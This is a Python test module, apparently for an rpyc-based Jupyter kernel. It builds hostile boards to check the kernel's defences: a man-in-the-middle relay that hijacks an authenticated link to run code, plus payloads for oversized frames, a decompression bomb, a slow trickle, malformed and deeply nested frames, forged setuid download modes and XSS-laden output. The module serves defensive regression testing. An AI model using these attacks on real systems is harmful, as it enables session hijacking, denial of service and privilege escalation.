"""A hostile board for tests: it relays a kernel's token handshake to a real board server, then keeps
the authenticated link for itself and tries to run its own code there (the relay attack of issue 13.1).

It knows both handshakes: version 1 (the board speaks first with a text line) and version 2 (the
kernel speaks first with rpyc channel frames). With TLS it terminates the kernel's TLS with its own
certificate and opens its own TLS connection to the board, as a real attacker in the middle would.

Run on its own (e.g. inside a network namespace): python hostile_board.py LISTEN_HOST TARGET_PORT MARKER
"""

from __future__ import annotations

import select
import socket
import ssl
import struct
import sys
import threading
import time

import rpyc
from rpyc.core.stream import SocketStream

_HEADER = struct.Struct("!LB")


def _read_exactly(sock: socket.socket, count: int) -> bytes:
    data = b""
    while len(data) < count:
        chunk = sock.recv(count - len(data))
        if not chunk:
            raise EOFError("closed")
        data += chunk
    return data


def _read_line(sock: socket.socket) -> bytes:
    data = b""
    while not data.endswith(b"\n"):
        chunk = sock.recv(1)
        if not chunk:
            raise EOFError("closed")
        data += chunk
    return data


def _read_frame(sock: socket.socket, prefix: bytes = b"") -> bytes:
    header = prefix + _read_exactly(sock, _HEADER.size - len(prefix))
    length, _ = _HEADER.unpack(header)
    return header + _read_exactly(sock, length + 1)


def _first_speaker(kernel: socket.socket, board: socket.socket) -> tuple:
    """(the socket whose peer sent application data first, its first byte).

    select() alone cannot tell: TLS may hold decrypted data it does not see, and a TLS 1.3 server
    sends session tickets (readable, but no data) right after the handshake.
    """
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline:
        pending = [sock for sock in (kernel, board) if isinstance(sock, ssl.SSLSocket) and sock.pending()]
        ready = pending or select.select([kernel, board], [], [], deadline - time.monotonic())[0]
        for sock in ready:
            sock.setblocking(False)
            try:
                first = sock.recv(1)
            except (ssl.SSLWantReadError, BlockingIOError):
                continue
            finally:
                sock.settimeout(10)
            if not first:
                raise EOFError("closed before the handshake")
            return sock, first
    raise TimeoutError("nobody spoke")


class RelayingBoard:
    """Listens on host:port; each kernel that connects has its handshake relayed to target_port."""

    def __init__(
        self,
        target_port: int,
        marker: str,
        host: str = "127.0.0.1",
        kernel_side_tls: ssl.SSLContext | None = None,
        board_side_tls: ssl.SSLContext | None = None,
    ) -> None:
        self.target_port = target_port
        self.marker = marker
        self.kernel_side_tls = kernel_side_tls
        self.board_side_tls = board_side_tls
        self.listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.listener.bind((host, 0))
        self.listener.listen(8)
        self.port = self.listener.getsockname()[1]
        self.attempts = 0
        self.hijacked = 0  # how often the stolen link ran our code on the board
        self.log: list = []
        self._finished = threading.Semaphore(0)
        threading.Thread(target=self._accept_loop, daemon=True).start()

    def _accept_loop(self) -> None:
        while True:
            try:
                kernel, _ = self.listener.accept()
            except OSError:
                return
            threading.Thread(target=self._relay, args=(kernel,), daemon=True).start()

    def _relay(self, kernel: socket.socket) -> None:
        self.attempts += 1
        board = None
        try:
            kernel.settimeout(10)
            if self.kernel_side_tls is not None:
                kernel = self.kernel_side_tls.wrap_socket(kernel, server_side=True)
            board = socket.create_connection(("127.0.0.1", self.target_port), timeout=10)
            if self.board_side_tls is not None:
                board = self.board_side_tls.wrap_socket(board, server_hostname="127.0.0.1")
            speaker, first = _first_speaker(kernel, board)
            if speaker is board:  # handshake 1: the board's banner, the kernel's answer, the verdict
                kernel.sendall(first + _read_line(board))
                board.sendall(_read_line(kernel))
                kernel.sendall(_read_line(board))
            else:  # handshake 2: hello, challenge, proof, verdict
                for round_trip in range(2):
                    board.sendall(_read_frame(kernel, first if round_trip == 0 else b""))
                    kernel.sendall(_read_frame(board))
            kernel.close()
            self._use_stolen_link(board)
        except Exception as exc:  # the attack failed somewhere: that is what a test wants to see
            self.log.append(f"{type(exc).__name__}: {exc}")
        finally:
            for sock in (kernel, board):
                if sock is not None:
                    sock.close()
            self._finished.release()

    def wait_finished(self, timeout: float = 20) -> bool:
        """Wait until one relay attempt (handshake and attack) has ended; False on timeout."""
        return self._finished.acquire(timeout=timeout)

    def _use_stolen_link(self, board: socket.socket) -> None:
        board.settimeout(None)
        conn = rpyc.classic.connect_stream(SocketStream(board))
        conn._config["sync_request_timeout"] = 5
        conn.execute(f"open({self.marker!r}, 'w').write('relayed')")
        self.hijacked += 1
        conn.close()

    def close(self) -> None:
        self.listener.close()


if __name__ == "__main__":
    listen_host, target, marker_path = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    relay = RelayingBoard(target, marker_path, host=listen_host)
    print(relay.port, flush=True)
    threading.Event().wait()


# ------------------------------------------------------- a board that attacks the kernel (issue 20.3)
# The board is the attacker here: a cell sends raw bytes down the kernel's own main link, in place of
# the answer the kernel waits for. Nothing sits between kernel and board, so the attack does not
# depend on the handshake.


def _hostile_attack(kind: str) -> None:  # runs on the board, in a cell (see attack_cell)
    import struct
    import sys
    import time
    import zlib

    from rpyc.core.protocol import Connection

    def main_link():  # the Connection whose thread serves this cell's run/poll: the kernel's main link
        for frame in sys._current_frames().values():
            in_session = False
            while frame is not None:
                code = frame.f_code
                if code.co_filename.endswith("session.py") and code.co_name in ("run", "poll"):
                    in_session = True
                elif in_session and isinstance(frame.f_locals.get("self"), Connection):
                    return frame.f_locals["self"]
                frame = frame.f_back
        return None

    conn = None
    while conn is None:
        conn = main_link()
        time.sleep(0.02)
    header = struct.Struct("!LB")

    def frame(data, compressed=0):
        return header.pack(len(data), compressed) + data + b"\n"

    sock = conn._channel.stream.sock
    sent = 0
    with conn._sendlock:
        try:
            if kind == "huge":  # a 4 GiB frame header, then a steady stream (up to 400 MiB)
                sock.sendall(header.pack(0xFFFFFFF0, 0))
                chunk = b"x" * 1048576
                while sent < 400 * 1048576:
                    sock.sendall(chunk)
                    sent += len(chunk)
            elif kind == "bomb":  # ~400 KB on the wire, 400 MiB once inflated
                deflate = zlib.compressobj(9)
                block = bytes(1048576)
                data = b"".join([deflate.compress(block) for _ in range(400)] + [deflate.flush()])
                sock.sendall(frame(data, 1))
                sent = len(data)
            elif kind == "trickle":  # a 1 MiB frame, one byte every 0.2 s: each byte restarts a silence timer
                sock.sendall(header.pack(1048576, 0))
                while sent < 1000:
                    sock.sendall(b"x")
                    sent += 1
                    time.sleep(0.2)
            elif kind == "bad_type":  # message type 9 does not exist
                sock.sendall(frame(b"\x09\x11\x50\x00"))
            elif kind == "deep":  # a reply whose value is a tuple nested 100,000 deep
                sock.sendall(frame(b"\x02\x11\x50" + b"\x10" * 100000 + b"\x00"))
        except OSError as exc:
            print("the kernel closed the link:", type(exc).__name__, "after", sent, "bytes")
    print("attack", kind, "sent", sent)


def attack_cell(kind: str) -> str:
    """Cell source that makes the board attack the kernel: "huge", "bomb", "bad_type" or "deep"."""
    import inspect

    return inspect.getsource(_hostile_attack) + f"\n_hostile_attack({kind!r})\n"


LYING_DOWNLOADS = """
import json, sys
_transfer = __import__("importlib").import_module("_rpyc_ikernel_agent.transfer")
_honest_open = getattr(_transfer, "_honest_open", _transfer.open_download)

def _lying_open(handle, path, link=None, compress=False):  # the file asked for, under another name and mode
    reply = json.loads(_honest_open(handle, path, link, compress))
    if "path" in reply:
        reply["path"], reply["mode"] = {target!r}, 0o6777
    return json.dumps(reply)

_transfer._honest_open, _transfer.open_download = _honest_open, _lying_open
"""


def lying_downloads_cell(target: str) -> str:
    """Cell source that makes the board's downloads name `target` and mode 6777 in their answers."""
    return LYING_DOWNLOADS.format(target=target)


FORGED_OUTPUT = """
import sys
_session = next(iter(sys.modules["_rpyc_ikernel_agent.session"].SESSIONS.values()))
_session.emit({"msg_type": "status", "content": {"execution_state": "idle"}})
_session.emit({"msg_type": "comm_open", "content": {"comm_id": "c1", "target_name": "jupyter.widget"}})
_session.emit({"msg_type": "made_up", "content": {}})
_session.emit({"msg_type": "stream", "content": {"name": "stdin", "text": ["x"]}})
_session.emit({"msg_type": "display_data", "content": {"data": {"application/javascript": "alert(1)",
    "text/html": "<img src=x onerror=alert(1)>"}, "metadata": {}, "transient": {}}})
_session.emit({"msg_type": "display_data", "content": {"data": {"text/html": "<b>bold</b>",
    "application/vnd.plotly.v1+json": {"data": [{"y": [1, 2]}]}}, "metadata": {}, "transient": {}}})
print("after")
"""


def forged_output_cell() -> str:
    """Cell source whose board queues messages no cell produces (status, comm_open, script) as output."""
    return FORGED_OUTPUT
